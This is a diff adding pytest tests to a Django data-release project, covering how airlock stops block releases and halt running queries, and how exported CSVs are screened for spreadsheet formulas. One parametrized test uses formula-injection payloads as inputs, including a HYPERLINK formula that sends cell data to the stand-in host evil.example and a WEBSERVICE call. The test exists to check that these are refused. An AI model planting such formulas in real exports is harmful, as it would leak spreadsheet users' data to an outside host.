@@ -13,7 +13,7 @@ import pytest
 from django.conf import settings
 
 from gongshu.crypto.sign import PrivateKey
-from gongshu.enclave import confirm, release, serve, stops, tasks, votes
+from gongshu.enclave import confirm, release, render, serve, stops, tasks, votes
 from gongshu.enclave.store.models import Grant, JournalEntry, Outgoing, Output, Release, Task
 from gongshu.wire import serving
 from gongshu.wire.errors import WireError
@@ -273,6 +273,79 @@ def test_a_stop_at_the_airlock_acts_at_once_and_reaches_the_gateway(granted: Dom
     serve.write_state(ZONE, granted.now)
     admitted, _ = serving.read(settings.SERVING_DIR, ZONE, granted.trust, granted.now, "test")
     assert [stop["target"] for stop in admitted.envelope.body["stops"]] == ["g-1"]
+
+
+def test_a_stopped_product_leaves_neither_under_old_votes_nor_by_a_new_request(granted: Domain) -> None:
+    def stop() -> None:
+        stops.stop(
+            zone=ZONE,
+            scope="product",
+            target="pd-1",
+            reason="演练",
+            origin="airlock",
+            person="p-bus",
+            now=granted.now,
+        )
+
+    run(granted)
+    output = ask(granted)
+    vote_both(output, granted.now)
+    stop()
+    # what a request under attack writes back when it ends after the stop
+    Output.objects.filter(pk=output.pk).update(state="reviewing")
+    assert release.step(granted.now) == 0 and not Release.objects.exists()
+    run(granted, task="t-3")
+    body = {"kind": "table", "title": "再来一次", "lead": ""}
+    asked = {"id": "t-4", "kind": "release", "grant": "g-1", "from_task": "t-3", "output": body}
+    granted.feed("task", {**asked, "product": "pd-1"})
+    work()
+    assert Task.objects.get(id="t-4").outcome == "refused_stop"
+
+
+def test_a_stop_at_the_airlock_ends_a_run_on_its_way(
+    granted: Domain, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The airlock is another process: the enclave finds the stop in the database."""
+    granted.feed("task", {"id": "t-1", "kind": "run", "grant": "g-1", "sql": SQL})
+    task = tasks.begin(datetime.now(UTC))
+    assert task is not None
+    ended: list[str] = []
+
+    class Engine:
+        def cancel(self, run_id: str) -> None:
+            ended.append(run_id)
+
+    monkeypatch.setitem(tasks.RUNNING, task.id, (Engine(), "r-1"))
+    assert tasks.halt(granted.now) == 0 and not ended
+    stops.stop(
+        zone=ZONE, scope="grant", target="g-1", reason="", origin="airlock", person="p-bus", now=granted.now
+    )
+    assert tasks.halt(granted.now) == 1 and ended == ["r-1"]
+
+
+@pytest.mark.parametrize(
+    "sql",
+    [
+        """SELECT line AS "=WEBSERVICE(A2)", count(*) AS n FROM trips GROUP BY line""",
+        """SELECT line, count(*) AS n, '=HYPERLINK("http://evil.example/?x="&B2)' AS note
+           FROM trips GROUP BY line""",
+        """SELECT line, count(*) AS n, '@SUM(B2)' AS note FROM trips GROUP BY line""",
+    ],
+)
+def test_no_formula_reaches_a_reviewers_spreadsheet(granted: Domain, sql: str) -> None:
+    assert run(granted, sql=sql).outcome == "done"
+    body = {"kind": "table", "title": "公式", "lead": ""}
+    asked = {"id": "t-2", "kind": "release", "grant": "g-1", "from_task": "t-1", "output": body}
+    granted.feed("task", {**asked, "product": "pd-1"})
+    work()
+    task = Task.objects.get(id="t-2")
+    assert task.outcome == "failed" and "公式" in task.detail
+    assert Output.objects.get(task_id="t-1").state == "kept"
+
+
+def test_what_only_looks_like_a_formula_leaves() -> None:
+    told = render.as_csv(["增减", "比例-%"], [["-", "-3.5"], ["+12", "-1e-05"], [-4, "5-6岁"]])
+    assert told.decode("utf-8-sig").splitlines()[1] == "-,-3.5"
 
 
 def test_an_act_leaves_its_line_in_the_journal(granted: Domain) -> None:
